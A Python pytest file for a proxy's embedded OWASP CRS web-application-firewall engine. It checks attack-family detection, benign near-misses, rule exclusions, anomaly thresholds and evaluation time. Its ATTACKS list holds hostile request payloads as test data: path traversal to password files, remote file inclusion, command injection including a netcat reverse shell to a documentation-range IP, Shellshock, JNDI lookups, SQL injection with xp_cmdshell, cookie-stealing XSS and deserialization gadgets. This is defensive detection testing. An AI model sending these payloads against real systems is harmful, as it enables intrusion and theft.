"""The CRS rules (Debian's modsecurity-crs 3.3.4) on Hyperscan: what each attack family catches at paranoia
level 1, benign near-misses it leaves alone, exclusions, the anomaly threshold, and linear time."""

from __future__ import annotations

import base64
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bench.pathological import CASES
from conftest import CRS_RULES, make_config
from policy.config import RouteConfig
from policy.crs import crs_factor
from policy.crs.checks import Value
from policy.crs.engine import Engine
from policy.crs.request import crs_values
from policy.crs.rules import Parsed, Rule
from policy.crs.transforms import FUNCTIONS
from policy.identity import Identity, Trust
from policy.incoming import Incoming
from policy.risk import History, RiskInput, score
from proxy.crs import load_crs

ROUTE = RouteConfig("/*", "echo")
CALLER = Identity("established", authenticated=True, trust=Trust.TRUSTED)
HISTORY = History(requests=1000, recent=50, recent_failures=0)


@pytest.fixture(scope="module")
def loaded(crs_cache: str) -> tuple[Engine, Parsed]:
    config = make_config({"risk": {"crs": {"enabled": True, "rules_dir": CRS_RULES, "cache_dir": crs_cache}}})
    return load_crs(config.risk.crs, Path("."))


def request(target: str, headers: tuple[tuple[str, str], ...] = (), body: bytes = b"") -> Incoming:
    return Incoming(
        "POST" if body else "GET", target.partition("?")[0], target, (), headers, body, "192.0.2.7"
    )


def matched(engine: Engine, incoming: Incoming, **crs: object) -> list[int]:
    config = make_config({"risk": {"crs": {"enabled": True, **crs}}})
    inp = RiskInput(incoming, CALLER, HISTORY, ROUTE, config.risk.max_scan_bytes)
    return [
        rule.id
        for rule in engine.evaluate(crs_values(incoming, inp.fields, inp.scan_bytes, engine.variables))
    ]


NODE_SERIALIZE = base64.b64encode(b'_$$ND_FUNC$$_function(){require("child_process").exec("id")}()').decode()
# (family, request target): a rule of that family must match. Written from each rule's intent.
ATTACKS = [
    ("930", "/f?file=../../../../etc/passwd"),
    ("930", "/f?file=..%252f..%252fetc%252fshadow"),  # double encoding
    ("930", "/f?file=....//....//etc/passwd"),  # a filter stripping ../ once
    ("930", "/f?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),  # Windows separators
    ("930", "/f?p=/proc/self/environ"),
    ("930", "/.htaccess"),
    ("931", "/p?page=http://203.0.113.9/shell.txt?"),
    ("931", "/p?inc=ftp://203.0.113.9/x.php%3f"),
    ("931", "/p?page=http://evil.example/x?"),
    ("932", "/run?cmd=;cat%20/etc/passwd"),
    ("932", "/run?c=c'a't%20/e%22t%22c/pa''sswd"),  # quote evasion (cmdLine)
    ("932", "/run?c=;/bin/c%5cat%20/etc/hosts"),  # backslash evasion
    ("932", "/run?c=%24(whoami)"),  # command substitution
    ("932", "/run?cmd=%7Cnc%20-e%20/bin/sh%20203.0.113.9%204444"),
    ("932", "/run?x=()%20%7B%20:;%20%7D;%20/bin/bash%20-c%20id"),  # Shellshock
    ("932", "/run?cmd=powershell.exe%20-enc%20AAAA"),
    ("932", "/j?x=%24%7Bjndi:ldap://203.0.113.9/a%7D"),  # JNDI: CRS 3.3 sees a shell expression
    ("933", "/p?x=%3C%3Fphp%20system($_GET%5B'c'%5D);%20%3F%3E"),
    ("933", "/p?x=php://filter/convert.base64-encode/resource=index.php"),
    ("933", "/p?x=expect://id"),
    ("933", "/p?x=phpinfo()"),
    ("933", "/p?x=%24_SERVER%5B'HTTP_HOST'%5D"),
    ("933", "/p?x=O:8:%22stdClass%22:0:%7B%7D"),  # a serialized object
    ("934", "/n?x=" + NODE_SERIALIZE),  # 934100 decodes base64 (CRS 3.3: node-serialize)
    ("941", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("941", "/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("941", "/s?q=%26%23x3C;svg/onload=alert(1)%26%23x3E;"),  # entity-encoded
    ("941", "/s?q=%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3E"),  # a tab inside the scheme
    ("941", "/s?q=javascript:alert(document.cookie)"),
    ("942", "/q?id=1'%20union%20select%20password%20from%20users--"),
    ("942", "/q?id=1%20AND%20SLEEP(5)"),
    ("942", "/q?id=1;waitfor%20delay%20'0:0:5'--"),
    ("942", "/q?id=1';%20exec%20master..xp_cmdshell%20'dir'--"),
    ("943", "/s?x=%3Cmeta%20http-equiv%3D%22set-cookie%22%20content%3D%22a%3Db%22%3E"),
    ("943", "/login?phpsessid=x"),  # 943120: a session id set by a parameter, no Referer
    ("944", "/j?x=java.lang.Runtime.getRuntime().exec(%22id%22)"),
    ("944", "/j?x=new%20java.lang.ProcessBuilder(%22id%22).start()"),
    ("944", "/j?x=java.lang.Class.forName(%22x%22)"),
]


@pytest.mark.parametrize(("family", "target"), ATTACKS)
def test_each_family_catches_its_attacks(loaded: tuple[Engine, Parsed], family: str, target: str) -> None:
    ids = matched(loaded[0], request(target))
    assert any(str(rule_id).startswith(family) for rule_id in ids), f"{target}: {ids}"


# Per family, benign values sharing its words or characters: no rule of the family fires on them.
NEAR_MISSES = [
    ("930", "/docs?file=guide.pdf"), ("930", "/a?path=docs/2024/report.txt"), ("930", "/a?v=1.2.3"),
    ("931", "/p?next=/account/settings"), ("931", "/p?url=https://shop.example/cart"),
    ("932", "/a?msg=Meet+me+at+5;+bring+the+cat"), ("932", "/a?q=cat+food"),
    ("932", "/a?title=Tom+%26+Jerry"),
    ("933", "/a?x=system+requirements"), ("933", "/a?q=php+is+a+language"),
    ("934", "/a?q=new+function+of+the+shop"), ("934", "/a?q=eval+report+2024"),
    ("941", "/a?q=I+%3C3+cats"), ("941", "/a?comment=I+ran+the+script+yesterday"),
    ("941", "/a?q=on+load+balancing"),
    ("942", "/search?q=union+station"), ("942", "/search?q=select+a+seat"), ("942", "/a?name=O%27Brien"),
    ("942", "/a?q=from+A+to+B+where+x"), ("942", "/a?q=1+or+2+items"),
    ("943", "/a?session_length=30"), ("943", "/a?q=cookie+recipes"),
    ("944", "/a?java=version+17"), ("944", "/a?q=runtime+error"),
]  # fmt: skip


@pytest.mark.parametrize(("family", "target"), NEAR_MISSES)
def test_benign_near_misses_fire_no_rule_of_the_family(
    loaded: tuple[Engine, Parsed], family: str, target: str
) -> None:
    ids = matched(loaded[0], request(target))
    assert not any(str(rule_id).startswith(family) for rule_id in ids), f"{target}: {ids}"


# What CRS 3.3 at paranoia level 1 leaves to libinjection: 942100 (@detectSQLi) and 941100 (@detectXSS)
# catch it, through Debian's libmodsecurity3, and so does the built-in detector.
LIBINJECTION_ONLY = [
    ("/q?id=1'%20or%20'1'='1", 942100, "sql_injection"),
    ("/q?id=admin'--", 942100, "sql_injection"),
    ("/q?id=1/**/union/**/select/**/1,2", 942100, "sql_injection"),
    ("/q?name=%3Cimg%20src=x%20onerror=alert(1)%3E", 941100, "xss"),
]


@pytest.mark.parametrize(("target", "rule", "detector"), LIBINJECTION_ONLY)
def test_libinjections_rules_catch_what_the_rest_of_crs_leaves_to_them(
    loaded: tuple[Engine, Parsed], target: str, rule: int, detector: str
) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    result = score(
        RiskInput(request(target), CALLER, HISTORY, ROUTE, 65536), config, {"crs": crs_factor(engine)}
    )
    assert rule in matched(engine, request(target)) and result.fired(detector)
    without = make_config({"risk": {"crs": {"enabled": True, "exclude": [{"ids": [rule]}]}}})
    others = crs_factor(engine)(RiskInput(request(target), CALLER, HISTORY, ROUTE, 65536), without)
    assert others is None or str(rule) not in others


# Benign requests as a whole: the factor stays under the threshold.
# Values that start with a Unix command's name ("php ...", "eval ...") fire 932150 at level 1, as in CRS
# itself: left out here, and tuned by exclusion below.
STARTS_WITH_A_COMMAND = ["/a?q=php+is+a+language", "/a?q=eval+report+2024", "/a?q=wget+manual"]
BENIGN = [target for _, target in NEAR_MISSES if target not in STARTS_WITH_A_COMMAND] + [
    "/shop/items?color=red&size=M&q=t-shirt",
    "/a?email=jane.doe%40example.com&name=O%27Brien",
    "/api/v1/orders/12345?expand=items,customer",
    "/a?date=2024-01-02T10:00:00Z&tz=Europe/Paris",
]


@pytest.mark.parametrize("target", BENIGN)
def test_benign_near_misses_do_not_reach_the_threshold(loaded: tuple[Engine, Parsed], target: str) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(
        request(target, (("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),)),
        CALLER,
        HISTORY,
        ROUTE,
        65536,
    )
    assert crs_factor(engine)(inp, config) is None


def test_932150_on_values_starting_with_a_command_is_tuned_by_a_route_exclusion(
    loaded: tuple[Engine, Parsed],
) -> None:
    engine, _ = loaded
    routes = [{"path": "/search", "handler": "echo"}, {"path": "/*", "handler": "echo"}]
    crs = {"enabled": True, "exclude": [{"ids": [932150], "route": "/search"}]}
    config = make_config({"routes": routes, "risk": {"crs": crs}})
    for target in STARTS_WITH_A_COMMAND:
        path = target.replace("/a?", "/search?")
        on_search = RiskInput(request(path), CALLER, HISTORY, config.routes[0], 65536)
        elsewhere = RiskInput(request(target), CALLER, HISTORY, config.routes[1], 65536)
        assert crs_factor(engine)(on_search, config) is None
        assert "932150" in (crs_factor(engine)(elsewhere, config) or "")


def test_the_factor_names_the_rules_and_the_anomaly_score(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(
        request("/q?id=1'%20union%20select%20password%20from%20users--"), CALLER, HISTORY, ROUTE, 65536
    )
    result = score(inp, config, {"crs": crs_factor(engine)})
    hit = next(h for h in result.hits if h.name == "crs")
    assert hit.points == 40 and hit.reason.startswith("942") and "anomaly score" in hit.reason
    assert " at ARGS:id: \"1' union select password" in hit.reason  # the variable and the value matched


@pytest.mark.parametrize(
    ("exclusion", "fires_on_id", "fires_on_q"),
    [
        ({"factors": ["crs"], "variables": ["ARGS:id"]}, False, True),
        ({"factors": ["crs"], "variables": ["ARGS"]}, False, False),
        ({"factors": ["crs"], "variables": ["ARGS:id"], "route": "/other"}, True, True),
        ({"factors": ["sql_injection"], "variables": ["ARGS:id"]}, True, True),
    ],
)
def test_exclusions_by_variable_leave_the_rules_on_other_values(
    loaded: tuple[Engine, Parsed], exclusion: dict[str, object], fires_on_id: bool, fires_on_q: bool
) -> None:
    engine, _ = loaded
    routes = [{"path": "/q", "handler": "echo"}, {"path": "/other", "handler": "echo"}]
    config = make_config({"routes": routes, "risk": {"crs": {"enabled": True}, "exclude": [exclusion]}})
    factor, route = crs_factor(engine), RouteConfig("/q", "echo")
    for name, fires in (("id", fires_on_id), ("q", fires_on_q)):
        req = request(f"/q?{name}=1'%20union%20select%20password%20from%20users--")
        assert (factor(RiskInput(req, CALLER, HISTORY, route, 65536), config) is not None) is fires, name


def test_exclusions_by_id_everywhere_and_per_route(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    attack = "/q?id=1'%20union%20select%20password%20from%20users--"
    ids = matched(engine, request(attack))
    routes = [{"path": "/q", "handler": "echo"}, {"path": "/*", "handler": "echo"}]
    config = make_config(
        {"routes": routes, "risk": {"crs": {"enabled": True, "exclude": [{"ids": ids, "route": "/q"}]}}}
    )
    inp = RiskInput(request(attack), CALLER, HISTORY, config.routes[0], 65536)
    assert crs_factor(engine)(inp, config) is None  # every matched rule excluded on /q...
    inp = RiskInput(request(attack), CALLER, HISTORY, config.routes[1], 65536)
    assert crs_factor(engine)(inp, config) is not None  # ...not on another route
    config = make_config({"risk": {"crs": {"enabled": True, "exclude": [{"ids": ids[:1]}]}}})
    assert ids[0] not in [
        r.id
        for r in engine.evaluate(
            crs_values(inp.incoming, inp.fields, 65536, engine.variables), config.risk.crs.excluded("/x")
        )
    ]


def test_the_threshold_is_crs_anomaly_scoring(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    inp = RiskInput(request("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), CALLER, HISTORY, ROUTE, 65536)
    assert crs_factor(engine)(inp, make_config({"risk": {"crs": {"enabled": True}}})) is not None
    high = make_config(
        {"risk": {"crs": {"enabled": True, "anomaly_threshold": 1000, "prose_threshold": 1000}}}
    )
    assert crs_factor(engine)(inp, high) is None


def test_targets_are_respected_an_arg_rule_does_not_fire_on_a_header_it_does_not_name(
    loaded: tuple[Engine, Parsed],
) -> None:
    engine, _ = loaded
    attack = "1' union select password from users--"
    assert engine.evaluate([Value("ARGS", "id", attack)])
    assert not engine.evaluate([Value("REQUEST_HEADERS", "x-note", attack)])  # 942190 targets args, cookies
    assert not engine.evaluate([Value("REQUEST_COOKIES", "__utma", attack)])  # !REQUEST_COOKIES:/__utm/


def test_prefiltered_patterns_are_confirmed(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    assert {932100, 932105, 932150} <= engine.compiled.prefiltered
    assert 932150 in [r.id for r in engine.evaluate([Value("ARGS", "x", "\nwget http://x/a")])] or 932100 in [
        r.id for r in engine.evaluate([Value("ARGS", "x", ";wget http://x/a")])
    ]
    assert not engine.evaluate([Value("ARGS", "x", "the wget manual")])


def test_what_is_skipped_is_listed_with_the_reason(loaded: tuple[Engine, Parsed]) -> None:
    engine, parsed = loaded
    assert parsed.skipped[931130] == "operator @endsWith is not evaluated"
    assert {942100, 941100} <= {rule.id for rule in engine.rules}  # libinjection's, evaluated
    assert len(engine.rules) >= 75  # paranoia level 1: 77 rules of 930..944


HOSTILE = [
    "%u",
    "\\u00",
    "&#x",
    "../",
    "/*",
    "'",
    "<",
    "(",
    "$",
    "{",
    ";",
    "|",
    "`",
    "a",
    " ",
    "\xc3",
    "%25",
    "\u20ac",
    "\x00",
]


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(parts=st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=10))
def test_64_kib_of_hostile_fragments_evaluates_quickly(
    loaded: tuple[Engine, Parsed], parts: list[str]
) -> None:
    engine, _ = loaded
    text = ("".join(parts) * (65536 // len("".join(parts)) + 1))[:65536]
    started = time.perf_counter()
    engine.evaluate(
        [
            Value("ARGS", "a", text),
            Value("REQUEST_BODY", "", text),
            Value("REQUEST_HEADERS", "x", text[:8000]),
        ]
    )
    assert time.perf_counter() - started < 0.5, f"{text[:40]!r}"


def test_rules_find_together_what_each_family_finds_alone(loaded: tuple[Engine, Parsed]) -> None:
    """Each pipeline's database, shared transformations and texts: the whole rule set finds on a request
    the union of what its families (913, 920, 941, ...) find as rule sets of their own, whose pipelines
    are numbered and grouped otherwise."""
    engine, parsed = loaded
    families: dict[int, list[Rule]] = {}
    for rule in parsed.rules:
        families.setdefault(rule.id // 1000, []).append(rule)
    alone = [Engine(rules, 1) for rules in families.values()]
    hostile = [
        f"/a?q={(unit * 400)[:4000]}" for unit in ("%uD800<a\\x41", "&#60;script&#62;", "'+or+1=1--%0A")
    ]
    for target in [t for _, t in ATTACKS + NEAR_MISSES] + BENIGN + hostile:
        incoming = request(target, (("user-agent", "Mozilla/5.0"), ("x-note", target[-60:])))
        values = crs_values(
            incoming, RiskInput(incoming, CALLER, HISTORY, ROUTE).fields, 65536, engine.variables
        )
        found = {rule.id for rule in engine.evaluate(values)}
        assert found == {rule.id for family in alone for rule in family.evaluate(values)}, target


def test_any_text_is_evaluated_as_its_bytes_whatever_it_was_decoded_from(
    loaded: tuple[Engine, Parsed],
) -> None:
    engine, _ = loaded
    for text in ("price 5\u20ac", "\U0001f600 ok", "caf\xe9", "bad \udc80 byte", "\u202e\u0000"):
        assert engine.evaluate([Value("REQUEST_HEADERS", "x-note", text), Value("ARGS", "q", text)]) == []
    attack = "<script>alert('\u20ac')</script>"
    assert engine.evaluate([Value("ARGS", "q", attack)])


@pytest.mark.parametrize("case", list(CASES))
def test_each_known_pathological_input_evaluates_quickly(loaded: tuple[Engine, Parsed], case: str) -> None:
    engine, _ = loaded
    config = make_config({"risk": {"crs": {"enabled": True}}})
    inp = RiskInput(CASES[case](65536), CALLER, HISTORY, ROUTE, 65536)
    started = time.perf_counter()
    score(inp, config, {"crs": crs_factor(engine)})
    took = time.perf_counter() - started
    assert took < 0.5, f"{case}: {took * 1000:.0f} ms"  # the worst measured here: ~60 ms


def test_chains_on_other_request_values_are_evaluated(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    # 943120: a session id set by a parameter, with no Referer at all (session fixation)
    fixation = request("/login?jsessionid=AB12CD")
    assert 943120 in matched(engine, fixation)
    from_site = request("/login?jsessionid=AB12CD", (("referer", "https://shop.example/cart"),))
    assert 943120 not in matched(engine, from_site)
    # 944110: a Java process builder together with a deserialization marker, in any two values
    gadget = request("/j?cmd=java.lang.ProcessBuilder&payload=base64data")
    assert 944110 in matched(engine, gadget)
    assert 944110 not in matched(engine, request("/j?cmd=processbuilder+tutorial"))


def test_a_long_value_held_by_several_variables_is_transformed_once(
    loaded: tuple[Engine, Parsed], monkeypatch: pytest.MonkeyPatch
) -> None:
    engine, _ = loaded
    text = "/p?q=" + "%41" * 400  # past the short-value cache: shared within the request instead
    calls: list[str] = []

    def counted(decode: Callable[[str], str]) -> Callable[[str], str]:
        def decoding(value: str) -> str:
            calls.append(value)
            return decode(value)

        return decoding

    # Without %u in it, urlDecodeUni and urlDecode make the same text: decoded once for both.
    for name in ("urldecode", "urldecodeuni"):
        monkeypatch.setitem(FUNCTIONS, name, counted(FUNCTIONS[name]))
    variables = ("REQUEST_URI", "REQUEST_URI_RAW", "REQUEST_LINE", "QUERY_STRING")
    engine.evaluate([Value(variable, "", text) for variable in variables if variable in engine.variables])
    assert calls.count(text) == 1


def test_cookies_are_values_of_their_own_and_utm_cookies_are_left_out(loaded: tuple[Engine, Parsed]) -> None:
    engine, _ = loaded
    attack = "1'%20union%20select%20password%20from%20users--"
    assert 942190 in matched(engine, request("/a", (("cookie", f"theme=dark; pref={attack}"),)))
    assert 942190 not in matched(engine, request("/a", (("cookie", f"theme=dark; __utmz={attack}"),)))
